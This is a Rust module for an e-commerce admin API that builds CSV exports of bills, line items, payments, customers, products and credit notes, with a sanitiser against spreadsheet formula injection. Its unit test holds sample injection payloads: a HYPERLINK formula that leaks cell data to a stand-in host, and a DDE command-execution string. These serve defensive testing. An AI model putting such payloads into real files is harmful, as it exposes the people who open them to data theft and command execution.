//! CSV exports for the accountant and the sales manager
//! (`GET /admin/shops/{shop}/exports/{bills|lines|payments|customers|products|credit_notes}.csv`): every row
//! of a date range, no cap. Bills are read from the shop's by-date index 100 at a time, then
//! written oldest first; dates are ISO 8601 (UTC), amounts have the currency's decimals.
//! `separator=semicolon` and `decimal=comma` suit French spreadsheets.

use std::collections::BTreeMap;
use std::sync::Arc;

use rust_decimal::Decimal;
use serde::Deserialize;

use super::staff::Caller;
use super::{AppError, keys, repo};
use crate::app::record::decode;
use crate::domain::Errors;
use crate::domain::bill::{Bill, BillStatus, BillTax, Credited, Payment};
use crate::domain::ids::ShopId;
use crate::domain::names;
use crate::domain::product::ProductInstance;
use crate::ports::{Index, Query, Store};

names! {
    /// What can be exported.
    Export {
        Bills = "bills",
        Lines = "lines",
        Payments = "payments",
        Customers = "customers",
        Products = "products",
        CreditNotes = "credit_notes",
    }
}

/// The query of an export: the days (inclusive, by placement; products by start) and the format.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExportQuery {
    pub from: Option<String>,
    pub to: Option<String>,
    /// `comma` (default) or `semicolon`.
    pub separator: Option<String>,
    /// `point` (default) or `comma`.
    pub decimal: Option<String>,
}

#[derive(Clone)]
struct Format {
    separator: u8,
    comma: bool,
    /// Sort keys bounding the range: from `from` (inclusive) to before the day after `to`.
    from: Option<String>,
    before: Option<String>,
}

fn parse(q: &ExportQuery) -> Result<Format, AppError> {
    let mut e = Errors::default();
    let day = |e: &mut Errors, name: &str, v: &Option<String>| {
        v.as_deref()
            .and_then(|d| e.check(name, crate::domain::parse_day(d)))
    };
    let from = day(&mut e, "from", &q.from);
    let to = day(&mut e, "to", &q.to);
    if let (Some(f), Some(t)) = (from, to)
        && f > t
    {
        e.add("to", "must not be before `from`");
    }
    let separator = match q.separator.as_deref() {
        None | Some("comma") => b',',
        Some("semicolon") => b';',
        Some(_) => {
            e.add("separator", "give `comma` or `semicolon`");
            b','
        }
    };
    let comma = match q.decimal.as_deref() {
        None | Some("point") => false,
        Some("comma") => true,
        Some(_) => {
            e.add("decimal", "give `point` or `comma`");
            false
        }
    };
    if comma && separator == b',' {
        e.add(
            "decimal",
            "a decimal comma needs `separator=semicolon`, so that columns stay apart",
        );
    }
    e.finish(|| ()).map_err(AppError::Invalid)?;
    Ok(Format {
        separator,
        comma,
        from: from.map(|d| d.format("%Y-%m-%d").to_string()),
        before: to
            .and_then(|d| d.succ_opt())
            .map(|d| d.format("%Y-%m-%d").to_string()),
    })
}

impl Format {
    /// `at` falls on a day of the range.
    fn holds(&self, at: chrono::DateTime<chrono::Utc>) -> bool {
        let day = at.format("%Y-%m-%d").to_string();
        self.from.as_deref().is_none_or(|f| day.as_str() >= f)
            && self.before.as_deref().is_none_or(|b| day.as_str() < b)
    }
}

/// Rows written with the chosen separator and decimal mark.
struct Sheet {
    writer: csv::Writer<Vec<u8>>,
    comma: bool,
}

impl Sheet {
    fn new(format: &Format) -> Self {
        Self {
            writer: csv::WriterBuilder::new()
                .delimiter(format.separator)
                .from_writer(Vec::new()),
            comma: format.comma,
        }
    }

    fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<S> = cells.into_iter().collect();
        self.writer
            .write_record(cells.iter().map(|c| inert(c.as_ref()).into_owned()))
            .map_err(|e| AppError::State(format!("export: {e}")))
    }

    fn amount(&self, bill: &Bill, value: Decimal) -> String {
        let text = bill.currency.format(value);
        if self.comma {
            text.replace('.', ",")
        } else {
            text
        }
    }

    fn finish(self) -> Result<Vec<u8>, AppError> {
        self.writer
            .into_inner()
            .map_err(|e| AppError::State(format!("export: {e}")))
    }
}

/// The cell as a spreadsheet shows it without running it: one that starts as a formula would
/// (`=`, `+`, `-`, `@`, a tab or a carriage return) goes behind an apostrophe, which a
/// spreadsheet shows as text (OWASP's advice on CSV injection). Buyers type the names,
/// organisations, cities and references exported here, and staff open the files; a number
/// (`-12.50`, `-12,50`) is left a number.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && cell.replace(',', ".").parse::<Decimal>().is_err() {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn iso(at: chrono::DateTime<chrono::Utc>) -> String {
    at.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// The CSV exports.
pub struct Exports {
    pub store: Arc<dyn Store>,
}

impl Exports {
    /// The export `what` (`bills.csv`, ...) of the shop, as CSV bytes.
    pub async fn csv(
        &self,
        caller: &Caller,
        shop: &str,
        what: &str,
        query: &ExportQuery,
    ) -> Result<Vec<u8>, AppError> {
        let id: ShopId = repo::parse_id("shop", shop)?;
        caller.check_shop(&id, "shop", shop)?;
        let export = what
            .strip_suffix(".csv")
            .and_then(|w| w.parse::<Export>().ok())
            .ok_or_else(|| AppError::not_found("export", what))?;
        // The products sheet names each product's item: the catalogue is read with it.
        let items = match export {
            Export::Products => repo::Items::All,
            _ => repo::Items::None,
        };
        let stored = repo::load_shop(self.store.as_ref(), &id, items).await?;
        let format = parse(query)?;
        let mut sheet = Sheet::new(&format);
        if export == Export::Products {
            let names: BTreeMap<String, String> = stored
                .shop
                .items
                .iter()
                .map(|i| (i.code.to_string(), i.name.clone()))
                .collect();
            self.products(&mut sheet, &id, &format, &names).await?;
            return sheet.finish();
        }
        // A credit note is dated when it is taken, often after its bill was placed: its journal
        // reads every bill placed up to the range's end, and keeps the notes taken in the range.
        let placed = match export {
            Export::CreditNotes => Format {
                from: None,
                ..format.clone()
            },
            _ => format.clone(),
        };
        let bills = self.bills(&id, &placed).await?;
        let taxes: Vec<String> = stored.shop.taxes.keys().map(|c| c.to_string()).collect();
        match export {
            Export::Bills => bills_sheet(&mut sheet, &bills, &taxes)?,
            Export::Lines => lines_sheet(&mut sheet, &bills)?,
            Export::Payments => payments_sheet(&mut sheet, &bills)?,
            Export::Customers => customers_sheet(&mut sheet, &bills)?,
            Export::CreditNotes => credit_notes_sheet(&mut sheet, &bills, &taxes, &format)?,
            Export::Products => unreachable!("written above"),
        }
        sheet.finish()
    }

    /// The shop's bills placed in the range, oldest first.
    async fn bills(&self, shop: &ShopId, format: &Format) -> Result<Vec<Bill>, AppError> {
        let mut bills = Vec::new();
        let mut before = format.before.clone();
        loop {
            let query = Query {
                index: Some(Index::Gsi3),
                pk: keys::bills_of_shop(shop),
                descending: true,
                before: before.clone(),
                limit: Some(100),
                ..Query::default()
            };
            let page = self.store.query(&query).await?;
            let exhausted = page.len() < 100;
            for record in page {
                let bill: Bill = decode("bill", &record)?;
                let key = keys::bill_date(&bill);
                if format
                    .from
                    .as_deref()
                    .is_some_and(|from| key.as_str() < from)
                {
                    bills.reverse();
                    return Ok(bills);
                }
                before = Some(key);
                bills.push(bill);
            }
            if exhausted {
                bills.reverse();
                return Ok(bills);
            }
        }
    }

    /// The shop's product instances starting in the range, by start.
    async fn products(
        &self,
        sheet: &mut Sheet,
        shop: &ShopId,
        format: &Format,
        names: &BTreeMap<String, String>,
    ) -> Result<(), AppError> {
        let query = Query {
            index: Some(Index::Gsi3),
            pk: keys::products_of_shop(shop.as_str()),
            ..Query::default()
        };
        let mut products: Vec<ProductInstance> = self
            .store
            .query(&query)
            .await?
            .iter()
            .map(|r| decode("product", r))
            .collect::<Result<_, _>>()?;
        products.retain(|p| format.holds(p.start));
        products.sort_by_key(|p| p.start);
        sheet.row([
            "reference",
            "item",
            "item_name",
            "bill",
            "customer_email",
            "user_email",
            "context",
            "start",
            "end",
            "status",
        ])?;
        for p in &products {
            sheet.row([
                p.reference.to_string(),
                p.item_code.clone(),
                names.get(&p.item_code).cloned().unwrap_or_default(),
                p.bill.to_string(),
                p.customer_email.clone(),
                p.user_email.clone(),
                p.context.as_str().to_owned(),
                iso(p.start),
                p.end.map(iso).unwrap_or_default(),
                p.status.as_str().to_owned(),
            ])?;
        }
        Ok(())
    }
}

fn bills_sheet(sheet: &mut Sheet, bills: &[Bill], taxes: &[String]) -> Result<(), AppError> {
    let mut header: Vec<String> = [
        "invoice_number",
        "bill",
        "placed_at",
        "paid_at",
        "status",
        "customer",
        "email",
        "organisation",
        "country",
        "currency",
        "total_excl_tax",
    ]
    .map(String::from)
    .to_vec();
    header.extend(tax_header(taxes));
    header.extend(
        [
            "total_incl_tax",
            "payment_method",
            "test",
            "credit_note_number",
            "credited_at",
        ]
        .map(String::from),
    );
    sheet.row(&header)?;
    for bill in bills {
        let who = bill.invoicing.as_ref().unwrap_or(&bill.customer);
        let credit = bill.credit_note.as_ref();
        let mut row = vec![
            bill.invoice_number.clone().unwrap_or_default(),
            bill.id.to_string(),
            iso(bill.placed_at),
            bill.paid_at.map(iso).unwrap_or_default(),
            bill.status.to_string(),
            format!("{} {}", who.firstname, who.lastname),
            who.email.to_string(),
            who.organisation.clone().unwrap_or_default(),
            who.country.clone(),
            bill.currency.code().to_owned(),
            sheet.amount(bill, bill.totals.excl_tax),
        ];
        row.extend(tax_cells(
            sheet,
            bill,
            taxes,
            &bill.totals.taxes,
            Decimal::ONE,
        ));
        row.extend([
            sheet.amount(bill, bill.totals.incl_tax),
            bill.payment_method.as_str().to_owned(),
            bill.test.to_string(),
            credit.map(|c| c.number.clone()).unwrap_or_default(),
            credit.map(|c| iso(c.at)).unwrap_or_default(),
        ]);
        sheet.row(&row)?;
    }
    Ok(())
}

fn lines_sheet(sheet: &mut Sheet, bills: &[Bill]) -> Result<(), AppError> {
    sheet.row([
        "invoice_number",
        "bill",
        "placed_at",
        "status",
        "code",
        "name",
        "quantity",
        "unit_price",
        "total_excl_tax",
        "tax_code",
        "tax_rate",
        "tax",
        "total_incl_tax",
        "currency",
    ])?;
    for bill in bills {
        for line in &bill.lines {
            sheet.row([
                bill.invoice_number.clone().unwrap_or_default(),
                bill.id.to_string(),
                iso(bill.placed_at),
                bill.status.to_string(),
                line.code.to_string(),
                line.name.clone(),
                line.quantity.to_string(),
                sheet.amount(bill, line.unit_price),
                sheet.amount(bill, line.total_excl_tax),
                line.tax_code.to_string(),
                line.tax_rate.normalize().to_string(),
                sheet.amount(bill, line.tax),
                sheet.amount(bill, line.total_incl_tax),
                bill.currency.code().to_owned(),
            ])?;
        }
    }
    Ok(())
}

/// A column per tax code of the shop (its rate, base and amount), then `other_taxes`: those
/// of codes the shop no longer has.
fn tax_header(taxes: &[String]) -> Vec<String> {
    let mut header = Vec::new();
    for code in taxes {
        header.push(format!("tax_{code}_rate"));
        header.push(format!("tax_{code}_base"));
        header.push(format!("tax_{code}_amount"));
    }
    header.push("other_taxes".into());
    header
}

/// The cells of [`tax_header`] for `amounts` of `bill`, times `sign`.
fn tax_cells(
    sheet: &Sheet,
    bill: &Bill,
    taxes: &[String],
    amounts: &[BillTax],
    sign: Decimal,
) -> Vec<String> {
    let mut row = Vec::new();
    for code in taxes {
        match amounts.iter().find(|t| t.code.as_str() == code) {
            Some(t) => row.extend([
                t.rate.normalize().to_string(),
                sheet.amount(bill, sign * t.base),
                sheet.amount(bill, sign * t.amount),
            ]),
            None => row.extend([String::new(), String::new(), String::new()]),
        }
    }
    let other: Decimal = amounts
        .iter()
        .filter(|t| !taxes.iter().any(|c| c == t.code.as_str()))
        .map(|t| t.amount)
        .sum();
    row.push(sheet.amount(bill, sign * other));
    row
}

/// The credit notes journal: one row per credit note of the range's bills, in the order they
/// were taken, its amounts negative as on the document (what it credits, and how: `in_full`,
/// `part` for a part refund, `rest` for what the part refunds left), its taxes per code.
fn credit_notes_sheet(
    sheet: &mut Sheet,
    bills: &[Bill],
    taxes: &[String],
    range: &Format,
) -> Result<(), AppError> {
    let mut header: Vec<String> = [
        "credit_note_number",
        "credited_at",
        "invoice_number",
        "bill",
        "credits",
        "customer",
        "email",
        "currency",
        "total_excl_tax",
    ]
    .map(String::from)
    .to_vec();
    header.extend(tax_header(taxes));
    header.extend(["total_incl_tax", "test"].map(String::from));
    sheet.row(&header)?;
    let mut notes: Vec<_> = bills
        .iter()
        .flat_map(|b| b.credit_notes().into_iter().map(move |(n, c)| (b, n, c)))
        .filter(|(_, note, _)| range.holds(note.at))
        .collect();
    notes.sort_by(|(_, a, _), (_, b, _)| (a.at, &a.number).cmp(&(b.at, &b.number)));
    for (bill, note, credited) in notes {
        let who = bill.invoicing.as_ref().unwrap_or(&bill.customer);
        let amounts = credited.taxes(bill);
        let tax: Decimal = amounts.iter().map(|t| t.amount).sum();
        let amount = credited.amount(bill);
        let kind = match credited {
            Credited::InFull => "in_full",
            Credited::Part(_) => "part",
            Credited::Rest(_) => "rest",
        };
        let mut row = vec![
            note.number.clone(),
            iso(note.at),
            bill.invoice_number.clone().unwrap_or_default(),
            bill.id.to_string(),
            kind.to_owned(),
            format!("{} {}", who.firstname, who.lastname),
            who.email.to_string(),
            bill.currency.code().to_owned(),
            sheet.amount(bill, tax - amount),
        ];
        row.extend(tax_cells(
            sheet,
            bill,
            taxes,
            &amounts,
            Decimal::NEGATIVE_ONE,
        ));
        row.extend([sheet.amount(bill, -amount), bill.test.to_string()]);
        sheet.row(&row)?;
    }
    Ok(())
}

/// A bill's money sent back, as the bank statement shows it, negative: each part refund, and
/// once REFUNDED what it still kept, when and by whom it was marked so, with that move's
/// reference.
fn refunds(bill: &Bill) -> impl Iterator<Item = Payment> + '_ {
    let method = bill
        .payments
        .last()
        .map_or(bill.payment_method, |p| p.method);
    let parts = bill.refunds.iter().map(move |r| Payment {
        at: r.at,
        amount: -r.amount,
        method,
        reference: r.reference.clone(),
        actor: r.actor.clone(),
    });
    let rest = bill
        .events
        .iter()
        .find(|e| e.to == BillStatus::Refunded && e.from != Some(e.to))
        .map(|event| Payment {
            at: event.at,
            amount: -bill.kept(),
            method,
            reference: event.reference.clone(),
            actor: event.actor.clone(),
        });
    parts.chain(rest)
}

fn payments_sheet(sheet: &mut Sheet, bills: &[Bill]) -> Result<(), AppError> {
    sheet.row([
        "at",
        "bill",
        "invoice_number",
        "customer",
        "amount",
        "currency",
        "method",
        "reference",
        "recorded_by",
    ])?;
    let mut payments: Vec<_> = bills
        .iter()
        .flat_map(|b| {
            b.payments
                .iter()
                .cloned()
                .chain(refunds(b))
                .map(move |p| (b, p))
        })
        .collect();
    payments.sort_by_key(|(_, p)| p.at);
    for (bill, p) in payments {
        sheet.row([
            iso(p.at),
            bill.id.to_string(),
            bill.invoice_number.clone().unwrap_or_default(),
            format!("{} {}", bill.customer.firstname, bill.customer.lastname),
            sheet.amount(bill, p.amount),
            bill.currency.code().to_owned(),
            p.method.as_str().to_owned(),
            p.reference.clone().unwrap_or_default(),
            p.actor.to_string(),
        ])?;
    }
    Ok(())
}

/// One row per customer with bills in the range: as they last described themselves there.
fn customers_sheet(sheet: &mut Sheet, bills: &[Bill]) -> Result<(), AppError> {
    sheet.row([
        "email",
        "firstname",
        "lastname",
        "organisation",
        "city",
        "country",
        "bills",
        "first_bill_at",
        "last_bill_at",
        "paid_incl_tax",
        "currency",
    ])?;
    let mut by_email: BTreeMap<String, Vec<&Bill>> = BTreeMap::new();
    for bill in bills {
        by_email
            .entry(bill.customer.email.normalized())
            .or_default()
            .push(bill);
    }
    for (email, theirs) in by_email {
        let last = theirs.last().expect("at least one bill");
        let c = &last.customer;
        let total = theirs
            .iter()
            .fold(Decimal::ZERO, |sum, b| sum + b.received());
        sheet.row([
            email,
            c.firstname.clone(),
            c.lastname.clone(),
            c.organisation.clone().unwrap_or_default(),
            c.city.clone(),
            c.country.clone(),
            theirs.len().to_string(),
            iso(theirs[0].placed_at),
            iso(last.placed_at),
            sheet.amount(last, total),
            last.currency.code().to_owned(),
        ])?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn a_cell_that_would_run_as_a_formula_is_shown_as_text() {
        for formula in [
            "=HYPERLINK(\"http://x.test/?\"&A1,\"Open\")",
            "+33 cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        for kept in [
            "Ada",
            "12.50",
            "-12.50",
            "-12,50",
            "a=b",
            "",
            "ada+shop@example.org",
        ] {
            assert_eq!(inert(kept), kept);
        }
    }
}
